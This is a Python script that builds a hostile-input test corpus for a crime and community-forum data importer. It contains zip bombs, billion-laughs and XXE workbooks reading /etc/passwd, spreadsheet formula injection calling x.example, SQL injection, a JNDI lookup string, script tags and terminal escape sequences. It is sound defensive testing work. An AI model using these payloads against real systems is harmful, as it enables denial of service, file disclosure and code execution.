"""Build the hostile-input corpus: files a careless or hostile user could hand
the importer, each of which must be refused whole or imported whole.

    python scripts/make_hostile_corpus.py --small tests/fixtures/hostile
    python scripts/make_hostile_corpus.py --large /tmp/hostile-large

``--small`` writes the few-KB files that are committed in ``tests/fixtures/hostile/``
(kept here so that a workbook or an odd encoding can be rebuilt and read as code).
``--large`` writes the big ones (hundreds of KB to over 100 MB), which are never
committed: tests/test_hostile_corpus.py builds them in a temporary folder. Every file,
small or large, is named in ``tests/fixtures/hostile/MANIFEST.csv`` with its import kind,
its expected outcome and the case of the issue it covers.

Output is deterministic: no clock, no unseeded randomness; workbooks get fixed zip
timestamps and document dates.
"""

from __future__ import annotations

import argparse
import datetime as dt
import io
import random
import re
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

# --- headers and valid rows of each kind (see data_access/imports/templates.py) ---------

CC_HEADER = "county,category,period_start,period_end,count,source"
INC_HEADER = "occurred_on,county,category,latitude,longitude,external_id"
FRM_HEADER = "external_id,edition,county,venue,held_on,attendance_total,attendance_youth"
CON_HEADER = "external_id,forum_external_id,origin,county,theme,summary,raised_by_group,raised_on"
COM_HEADER = "external_id,concern_external_id,institution,title,made_on,due_on"
UPD_HEADER = "external_id,commitment_external_id,status,updated_on,note,evidence,recorded_by"
CHF_HEADER = ("county,sub_county,location,month,sentiment,barazas_held,attendance,top_theme,"
              "incidents_noted,notes")

# Fixed zip timestamps and document dates keep the workbooks reproducible byte for byte.
_FIXED_TIME = (2024, 1, 1, 0, 0, 0)
_FIXED_W3C = "2024-01-01T00:00:00Z"


def _lines(*lines: str, end: str = "\n") -> bytes:
    return (end.join(lines) + end).encode("utf-8")


def _concern(n: int, summary: str, *, theme: str = "Drugs", county: str = "Kisumu") -> str:
    """A concerns row raised at forum F-1 (the tests' database holds the base chain
    F-1 → C-1 → K-1 → U-1 of tests/fixtures/imports/base_*.csv, which rows refer to)."""
    return f"C-H{n},F-1,forum,{county},{theme},{summary},youth,2024-01-{5 + n % 20:02d}"


# --- workbooks ------------------------------------------------------------------------


def _fixed_zip(data: bytes, edit: Callable[[str, bytes], bytes] | None = None) -> bytes:
    """``data`` (a zip) rewritten with fixed timestamps and document dates; ``edit(name,
    content)`` may change any member on the way."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", _FIXED_W3C.encode(),
                                 content)
            if edit is not None:
                content = edit(info.filename, content)
            dst.writestr(zipfile.ZipInfo(info.filename, _FIXED_TIME), content,
                         zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _workbook(sheets: list[tuple[str, list[list[object]], str]],
              edit: Callable[[str, bytes], bytes] | None = None) -> bytes:
    """An .xlsx with ``(title, rows, state)`` sheets (state "visible" or "hidden")."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows, state in sheets:
        ws = wb.create_sheet(title)
        ws.sheet_state = state
        for row in rows:
            ws.append(row)
    wb.properties.creator = "hostile corpus"
    buf = io.BytesIO()
    wb.save(buf)
    return _fixed_zip(buf.getvalue(), edit)


def _cc_rows(n: int) -> list[list[object]]:
    """``n`` valid crime-count rows, one per month of 2023 onward (distinct keys)."""
    rows: list[list[object]] = [CC_HEADER.split(",")]
    for i in range(n):
        year, month = 2023 + i // 12, i % 12 + 1
        start = dt.date(year, month, 1)
        end = (dt.date(year + month // 12, month % 12 + 1, 1) - dt.timedelta(days=1))
        rows.append(["Kisumu", "Robbery", start.isoformat(), end.isoformat(), 3 + i,
                     "NPS hostile corpus"])
    return rows


def xlsx_stale_dimension() -> bytes:
    """Ten data rows under a stored dimension that claims only A1:H2 (issue case 2)."""
    def edit(name: str, content: bytes) -> bytes:
        if name.startswith("xl/worksheets/sheet"):
            content, n = re.subn(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:H2"/>',
                                 content)
            assert n == 1, "openpyxl wrote no dimension element"
        return content
    return _workbook([("data", _cc_rows(10), "visible")], edit)


def xlsx_hidden_sheet() -> bytes:
    """A hidden first sheet with three old rows, the visible sheet with two (case 12)."""
    hidden = _cc_rows(5)[:1] + _cc_rows(5)[3:6]
    visible = _cc_rows(2)
    return _workbook([("old", hidden, "hidden"), ("data", visible, "visible")])


def xlsx_datetime() -> bytes:
    """Incident dates stored as date-times with a time of day (case 12)."""
    rows: list[list[object]] = [INC_HEADER.split(",")]
    rows.append([dt.datetime(2024, 3, 1, 14, 30), "Nairobi", "Robbery", -1.2921, 36.8219,
                 "I-DT1"])
    rows.append([dt.datetime(2024, 3, 2, 0, 0), "Nairobi", "Robbery", -1.2925, 36.8215,
                 "I-DT2"])
    return _workbook([("data", rows, "visible")])


FORMULA_TEXTS = ['=HYPERLINK("http://x.example/steal","Click here")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "+254712345678", "-1+1"]


def xlsx_formulas() -> bytes:
    """Concern summaries that Excel would run as formulas; openpyxl stores a text starting
    with "=" as a formula cell, so the first is a real formula in the file (case 5)."""
    rows: list[list[object]] = [CON_HEADER.split(",")]
    for i, text in enumerate(FORMULA_TEXTS, start=1):
        rows.append(_concern(i, "x").split(",")[:5] + [text, "youth", "2024-01-06"])
    return _workbook([("data", rows, "visible")])


def xlsx_formula_count() -> bytes:
    """A count given as the formula =SUM(1,2): never evaluated, so not a number."""
    rows = _cc_rows(1)
    rows[1][4] = "=SUM(1,2)"
    return _workbook([("data", rows, "visible")])


def xlsx_xxe() -> bytes:
    """A worksheet whose XML declares an external entity reading /etc/passwd."""
    sheet = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
             b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
             b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
             b'</sheetData></worksheet>')
    return _workbook([("data", _cc_rows(1), "visible")], _replace_sheet(sheet))


def xlsx_billion_laughs() -> bytes:
    """A worksheet whose XML nests entities to expand to 10^9 "lol"s."""
    ents = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)]
    sheet = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [' + "".join(ents)
             + ']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
             'main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>'
             '</row></sheetData></worksheet>').encode()
    return _workbook([("data", _cc_rows(1), "visible")], _replace_sheet(sheet))


def _replace_sheet(sheet: bytes) -> Callable[[str, bytes], bytes]:
    def edit(name: str, content: bytes) -> bytes:
        return sheet if name == "xl/worksheets/sheet1.xml" else content
    return edit


def xlsx_empty() -> bytes:
    """A workbook whose only sheet holds no cell."""
    return _workbook([("data", [], "visible")])


def xlsx_error_values() -> bytes:
    """Excel error values where a count and a date should be."""
    rows = _cc_rows(1)
    rows[1][2], rows[1][4] = "#REF!", "#DIV/0!"
    return _workbook([("data", rows, "visible")])


def _big_sheet_zip(rows: Iterator[bytes], level: int) -> bytes:
    """A minimal .xlsx whose one sheet's XML is streamed from ``rows`` (not held whole)."""
    out = io.BytesIO()
    ct = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
          b'.org/package/2006/content-types"><Default Extension="rels" ContentType="applicatio'
          b'n/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentTy'
          b'pe="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="applicatio'
          b'n/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartNa'
          b'me="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedo'
          b'cument.spreadsheetml.worksheet+xml"/></Types>')
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openx'
            b'mlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://sc'
            b'hemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target'
            b'="xl/workbook.xml"/></Relationships>')
    wb = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlforma'
          b'ts.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDo'
          b'cument/2006/relationships"><sheets><sheet name="data" sheetId="1" r:id="rId1"/></sh'
          b'eets></workbook>')
    wb_rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.op'
               b'enxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="htt'
               b'p://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Ta'
               b'rget="worksheets/sheet1.xml"/></Relationships>')
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, content in (("[Content_Types].xml", ct), ("_rels/.rels", rels),
                              ("xl/workbook.xml", wb), ("xl/_rels/workbook.xml.rels", wb_rels)):
            zf.writestr(zipfile.ZipInfo(name, _FIXED_TIME), content)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", _FIXED_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://sche'
                        b'mas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for chunk in rows:
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def _istr(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def xlsx_big_unzipped(unzipped: int = 220_000_000) -> bytes:
    """About 15 MB of workbook that unzips to about 220 MB of crime-count rows (issue case
    4; ``unzipped`` bytes of sheet). Legitimate-looking, but beyond the unzipped-size limit.
    One block of 20,000 varied rows is repeated (cells without references are valid),
    which keeps building it fast."""
    rng = random.Random(10)
    header = "".join(_istr(f"{c}1", h) for c, h in zip("ABCDEF", CC_HEADER.split(",")))
    counties = ["Kisumu", "Nairobi", "Mombasa", "Nakuru", "Kiambu", "Machakos", "Kakamega"]
    rows = []
    for _ in range(20_000):
        day = (dt.date(2020, 1, 1) + dt.timedelta(days=rng.randrange(1400))).isoformat()
        rows.append(f"<row>{_istr('', rng.choice(counties))}{_istr('', 'Robbery')}"
                    f"{_istr('', day)}{_istr('', day)}<c><v>{rng.randrange(100000)}</v></c>"
                    f"{_istr('', f'src {rng.randrange(10**6)}')}</row>")
    block = "".join(rows).replace(' r=""', "").encode()

    def chunks() -> Iterator[bytes]:
        yield f'<row r="1">{header}</row>'.encode()
        for _ in range(max(1, unzipped // len(block))):
            yield block
    return _big_sheet_zip(chunks(), level=1)


def xlsx_zip_bomb(unzipped: int = 1_000_000_000) -> bytes:
    """About 5 MB of workbook whose sheet unzips to 1 GB (``unzipped``) of identical
    rows."""
    one = "".join(_istr("", "Z") for _ in range(6)).replace(' r=""', "")
    chunk = (f"<row>{one}</row>" * 10_000).encode()
    header = "".join(_istr(f"{c}1", h) for c, h in zip("ABCDEF", CC_HEADER.split(",")))

    def rows() -> Iterator[bytes]:
        yield f'<row r="1">{header}</row>'.encode()
        for _ in range(unzipped // len(chunk)):
            yield chunk
    return _big_sheet_zip(rows(), level=1)


# --- CSV files ------------------------------------------------------------------------


def z_lines() -> bytes:
    """A valid header then 600 KB of lines holding one "Z" each (issue case 4)."""
    return (CC_HEADER + "\n").encode() + b"Z\n" * 300_000


def wide_row() -> bytes:
    """A valid header, then one data row of 10^6 cells."""
    return (CC_HEADER + "\n").encode() + b",".join([b"x"] * 1_000_000) + b"\n"


def wide_empty_header() -> bytes:
    """A header row followed by 10^6 empty header cells, then one valid row."""
    return (CC_HEADER.encode() + b"," * 1_000_000 + b"\n"
            + b"Kisumu,Robbery,2023-01-01,2023-01-31,4,NPS\n")


def huge_line() -> bytes:
    """A valid header, then one 50 MB line without a delimiter."""
    return (CC_HEADER + "\n").encode() + b"Z" * 50_000_000 + b"\n"


def over_limit() -> bytes:
    """Valid crime-count rows making a file one byte over the default 100 MB limit."""
    head = (CC_HEADER + "\n").encode()
    row = b"Kisumu,Robbery,2023-01-01,2023-01-31,4,NPS limit test\n"
    need = 100_000_001 - len(head)
    body = row * (need // len(row))
    return head + body + b"#" * (need - len(body))


def cell_128k() -> bytes:
    """A concern whose summary is one 130,000-character cell (case 12)."""
    return _lines(CON_HEADER, _concern(1, "Q" * 130_000))


def nul_after_64k() -> bytes:
    """Chiefs' reports: 900 valid rows (months and locations vary), a NUL in a note past
    the first 64 KB, which a check of the first 64 KB alone never sees (case 7)."""
    lines = [CHF_HEADER]
    for i in range(900):
        note = "Quiet month, barazas well attended" + " ." * 20
        if i == 850:
            note = "Quiet month\x00 then trouble"
        month = f"{2020 + i // 12 % 6}-{i % 12 + 1:02d}"
        lines.append(f"Kisumu,Kisumu Central,Loc {i // 72},{month},3,2,150,Drugs,1,{note}")
    data = _lines(*lines)
    assert data.index(b"\x00") > 65_536
    return data


def quote_thousands_of_rows() -> bytes:
    """A stray quote early in a 2,000-row file: the rest would fold into one cell."""
    lines = [CON_HEADER, _concern(0, '"Dens near the school')]
    lines += [_concern(i, f"Summary number {i}") for i in range(1, 2000)]
    return _lines(*lines)


LARGE: dict[str, Callable[[], bytes]] = {
    "cc_z_lines.csv": z_lines,
    "cc_row_1m_cells.csv": wide_row,
    "cc_header_1m_empty_cells.csv": wide_empty_header,
    "cc_line_50mb.csv": huge_line,
    "cc_over_upload_limit.csv": over_limit,
    "con_cell_130k.csv": cell_128k,
    "chf_nul_after_64k.csv": nul_after_64k,
    "con_stray_quote_2000_rows.csv": quote_thousands_of_rows,
    "cc_unzips_220mb.xlsx": xlsx_big_unzipped,
    "cc_zip_bomb_1gb.xlsx": xlsx_zip_bomb,
    "cc_zip_bomb_150mb.xlsx": lambda: xlsx_zip_bomb(150_000_000),
    "cc_1_1m_cells.xlsx": lambda: xlsx_big_unzipped(47_000_000),  # 180,000 rows
}


# Small files: written as they are (bytes) or built (workbooks).
def _small() -> dict[str, bytes]:
    png = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00"
           b"\x00\x00\x1f\x15\xc4\x89" + zlib.compress(b"\x00" * 8) + b"\x00\x00\x00\x00IEND")
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as zf:
        zf.writestr(zipfile.ZipInfo("data.csv", _FIXED_TIME), _lines(CC_HEADER))
    rnd = random.Random(4)
    cc_ok = "Kisumu,Robbery,2023-01-01,2023-01-31,4,NPS"
    utf8_quote = "Murang’a"
    return {
        # --- structure: quotes, line endings, encodings ---
        "con_stray_quote.csv": _lines(
            CON_HEADER, _concern(1, "Dens near the school"),
            _concern(2, '"Dens near the market'), _concern(3, "Thefts at night"),
            _concern(4, "Boda boda robberies"), _concern(5, "Cattle theft at the border")),
        "con_quote_closes_late.csv": _lines(
            CON_HEADER, _concern(1, '"Dens near the school'), _concern(2, "Thefts"),
            _concern(3, 'Robberies at night"')),
        "con_quoted_multiline_ok.csv": _lines(
            CON_HEADER, _concern(1, '"Dens near the school,\nand near the market"'),
            _concern(2, '"He said ""stop"" twice"')),
        "con_quote_last_line.csv": _lines(
            CON_HEADER, _concern(1, "Dens near the school"), _concern(2, '"Thefts at night')),
        "cc_301_cells.csv": _lines(CC_HEADER, cc_ok + ",x" * 295),
        "cc_cr_only.csv": _lines(CC_HEADER, cc_ok, "Kisumu,Robbery,2023-02-01,2023-02-28,5,NPS",
                                 end="\r"),
        "cc_crlf.csv": _lines(CC_HEADER, cc_ok, end="\r\n"),
        "cc_utf8_bom.csv": b"\xef\xbb\xbf" + _lines(CC_HEADER, cc_ok),
        "cc_utf16le_bom.csv": "\ufeff".encode("utf-16-le")
        + (CC_HEADER + "\r\n" + cc_ok + "\r\n").encode("utf-16-le"),
        "cc_utf16be_bom.csv": "\ufeff".encode("utf-16-be")
        + (CC_HEADER + "\r\n" + cc_ok + "\r\n").encode("utf-16-be"),
        "cc_utf16le_no_bom.csv": (CC_HEADER + "\r\n" + cc_ok + "\r\n").encode("utf-16-le"),
        "cc_semicolon_cp1252.csv": (CC_HEADER.replace(",", ";") + "\r\n"
                                    + f"{utf8_quote};Robbery;2023-01-01;2023-01-31;4;NPS – "
                                    "ripoti\r\n").encode("cp1252"),
        "con_mixed_utf8_in_cp1252.csv": (
            (CON_HEADER + "\n" + _concern(1, "Wizi – usiku") + "\n").encode("cp1252")
            + (_concern(2, "Wizi – mchana") + "\n").encode("utf-8")),
        "cc_tab_separated.tsv": _lines(CC_HEADER.replace(",", "\t"), cc_ok.replace(",", "\t")),
        "cc_trailing_empty_columns.csv": _lines(CC_HEADER + ",,,", cc_ok + ",,,", ",,,,,,,,",
                                                cc_ok.replace("-01-", "-03-") + ",,,"),
        # --- not a CSV at all ---
        "cc_png_renamed.csv": png,
        "cc_pdf_renamed.csv": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n",
        "cc_zip_renamed.csv": zipped.getvalue(),
        "cc_random_bytes.csv": bytes(rnd.randrange(256) for _ in range(2048)),
        "cc_nul_at_start.csv": _lines(CC_HEADER) + b"\x00\x00\x00" + _lines(cc_ok),
        "cc_empty.csv": b"",
        "cc_whitespace_only.csv": b"  \r\n\t\r\n\xef\xbb\xbf\n",
        "cc_header_only.csv": _lines(CC_HEADER),
        "cc_wrong_kind_forums.csv": _lines(
            FRM_HEADER, "F-9,Lake Edition,Kisumu,Kisumu Social Hall,2024-01-05,,120"),
        "cc_unknown_column.csv": _lines(CC_HEADER + ",remarks", cc_ok + ",call me"),
        "cc_missing_column.csv": _lines(CC_HEADER.replace(",count", ""),
                                        cc_ok.replace(",4,", ",")),
        "cc_header_below_row_30.csv": _lines(*(["NATIONAL POLICE SERVICE"] * 35), CC_HEADER,
                                             cc_ok),
        # --- injection: formulas, markup, controls, escapes ---
        "con_formulas.csv": _lines(CON_HEADER, *(
            _concern(i, '"' + t.replace('"', '""') + '"')
            for i, t in enumerate(FORMULA_TEXTS, start=1))),
        "con_markup.csv": _lines(CON_HEADER, *(
            _concern(i, t) for i, t in enumerate(MARKUP_TEXTS, start=1))),
        "frm_markup_venue.csv": _lines(
            FRM_HEADER,
            "F-M1,**Lake** Edition,Kisumu,<img src=http://x.example/v.png>,2024-01-06,,10",
            'F-M2,Lake Edition,Kisumu,"[Hall](http://x.example/phish)",2024-01-07,,10'),
        "com_markup_title.csv": _lines(
            COM_HEADER,
            "K-M1,C-1,NPS,<script>alert(1)</script> **patrols**,2024-01-10,2024-06-30",
            'K-M2,C-1,NPS,"=HYPERLINK(""http://x.example"",""ok"")",2024-01-11,'),
        "upd_vertical_tab.csv": _lines(
            UPD_HEADER, "U-V1,K-1,In progress,2024-02-02,Patrols started\x0bat night,,OCS Kisumu"),
        "upd_control_chars.csv": _lines(
            UPD_HEADER, *(f"U-C{i},K-1,In progress,2024-02-{2 + i:02d},Patrols continue as "
                          f"planned in week {i},,OCS Kisumu Central" for i in range(1, 6)),
            "U-C9,K-1,In progress,2024-02-20,Line one\x0bline two\x0cthree\x07 bell\x1b[2J "
            "end,,OCS\x08 Kisumu"),
        "con_ansi_in_summary.csv": _lines(
            CON_HEADER, _concern(1, "\x1b[31mRED ALERT\x1b[0m at the market")),
        "con_ansi_in_bad_theme.csv": _lines(
            CON_HEADER, *(_concern(i, f"Dens near school number {i} reported again")
                          for i in range(1, 6)),
            _concern(9, "Dens", theme="\x1b[2J\x1b[31mDrugz\x1b]0;pwned\x07")),
        "con_sql_and_unicode.csv": _lines(
            CON_HEADER, _concern(1, "'); DROP TABLE concerns;--"),
            _concern(2, "Usalama 🚨 wa jamii — ‮txt.exe zero​width"),
            _concern(3, "Robbery %s %n {0} ${jndi:ldap://x.example/a}")),
        "chf_markup_notes.csv": _lines(
            CHF_HEADER, "Kisumu,Kisumu Central,Kondele,2024-01,3,2,150,Drugs,1,"
            "<img src=http://x.example/c.png> =cmd|' /C calc'!A0 **calm**"),
        "upd_formula_evidence.csv": _lines(
            UPD_HEADER, 'U-F1,K-1,Fulfilled,2024-03-01,Done,"=HYPERLINK(""http://x.example'
            '/e"",""photo"")",@OCS Kisumu'),
        # --- values: negative, future, duplicates, counties, references, overflow ---
        "cc_negative_count.csv": _lines(CC_HEADER, cc_ok.replace(",4,", ",-4,")),
        "frm_negative_attendance.csv": _lines(
            FRM_HEADER, "F-N1,Lake Edition,Kisumu,Kisumu Social Hall,2024-01-05,,-120"),
        "chf_negative_barazas.csv": _lines(
            CHF_HEADER, "Kisumu,Kisumu Central,Kondele,2024-01,3,-2,150,Drugs,1,Quiet"),
        "cc_count_overflow.csv": _lines(CC_HEADER, cc_ok.replace(",4,",
                                                                ",99999999999999999999999,")),
        "inc_future_date.csv": _lines(INC_HEADER,
                                      "2031-03-01,Nairobi,Robbery,-1.2921,36.8219,I-F1"),
        "com_future_made.csv": _lines(
            COM_HEADER, "K-F1,C-1,NPS,Night patrols,2030-01-10,2030-06-30"),
        "con_future_date.csv": _lines(CON_HEADER, _concern(1, "Dens").replace("2024-01-06",
                                                                             "2099-01-06")),
        "inc_nan_coordinates.csv": _lines(INC_HEADER,
                                          "2024-03-01,Nairobi,Robbery,nan,inf,I-NAN"),
        "inc_duplicate_rows.csv": _lines(INC_HEADER,
                                         "2024-03-01,Nairobi,Robbery,-1.2921,36.8219,I-D1",
                                         "2024-03-01,Nairobi,Robbery,-1.2921,36.8219,I-D1"),
        "frm_duplicate_ids.csv": _lines(
            FRM_HEADER, "F-D1,Lake Edition,Kisumu,Kisumu Social Hall,2024-01-05,,120",
            "F-D1,Lake Edition,Kisumu,Kondele Hall,2024-02-05,,90"),
        "cc_misspelt_county_close.csv": _lines(CC_HEADER, cc_ok.replace("Kisumu", "Kisumuu")),
        "cc_misspelt_county_far.csv": _lines(CC_HEADER, cc_ok.replace("Kisumu", "Ksmxq")),
        "com_unknown_concern.csv": _lines(
            COM_HEADER, "K-U1,C-NOPE,NPS,Night patrols,2024-01-10,2024-06-30"),
        "upd_unknown_commitment.csv": _lines(
            UPD_HEADER, "U-U1,K-NOPE,In progress,2024-02-02,Started,,OCS"),
        "chf_bad_month.csv": _lines(
            CHF_HEADER, "Kisumu,Kisumu Central,Kondele,2024-13,3,2,150,Drugs,1,Quiet"),
        "inc_external_id_too_long.csv": _lines(
            INC_HEADER, "2024-03-01,Nairobi,Robbery,-1.2921,36.8219," + "I" * 65),
        # --- workbooks ---
        "cc_hidden_sheet_only.xlsx": _workbook([("old", _cc_rows(3), "hidden"),
                                                ("notes", [["Figures are on sheet old"]],
                                                 "visible")]),
        "cc_wide_row.xlsx": _workbook([("data", _cc_rows(1)
                                        + [["Kisumu", "x", *range(299)]], "visible")]),
        "cc_stale_dimension.xlsx": xlsx_stale_dimension(),
        "cc_hidden_sheet.xlsx": xlsx_hidden_sheet(),
        "inc_datetime_cells.xlsx": xlsx_datetime(),
        "con_formulas.xlsx": xlsx_formulas(),
        "cc_formula_count.xlsx": xlsx_formula_count(),
        "cc_error_values.xlsx": xlsx_error_values(),
        "cc_empty_workbook.xlsx": xlsx_empty(),
        "cc_xxe.xlsx": xlsx_xxe(),
        "cc_billion_laughs.xlsx": xlsx_billion_laughs(),
    }


MARKUP_TEXTS = ["<img src=http://x.example/t.png> at the market",
                "[click here](http://x.example/phish) for help",
                "**bold** and _italic_ and `code`",
                "<script>alert(1)</script>"]


def write_small(folder: Path) -> list[Path]:
    """Write the committed small files into ``folder``; returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in _small().items():
        path = folder / name
        path.write_bytes(data)
        paths.append(path)
    return paths


def write_large(folder: Path, names: list[str] | None = None) -> list[Path]:
    """Write the large files (all, or ``names``) into ``folder``; returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name in names or list(LARGE):
        path = folder / name
        path.write_bytes(LARGE[name]())
        paths.append(path)
    return paths


def main(argv: list[str] | None = None) -> int:
    """Command line: write the small and/or large files."""
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--small", type=Path, help="folder for the committed small files")
    p.add_argument("--large", type=Path, help="folder for the large generated files")
    args = p.parse_args(argv)
    if not (args.small or args.large):
        p.error("give --small and/or --large")
    if args.small:
        for path in write_small(args.small):
            print(f"{path} ({path.stat().st_size:,} bytes)")
    if args.large:
        for path in write_large(args.large):
            print(f"{path} ({path.stat().st_size:,} bytes)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
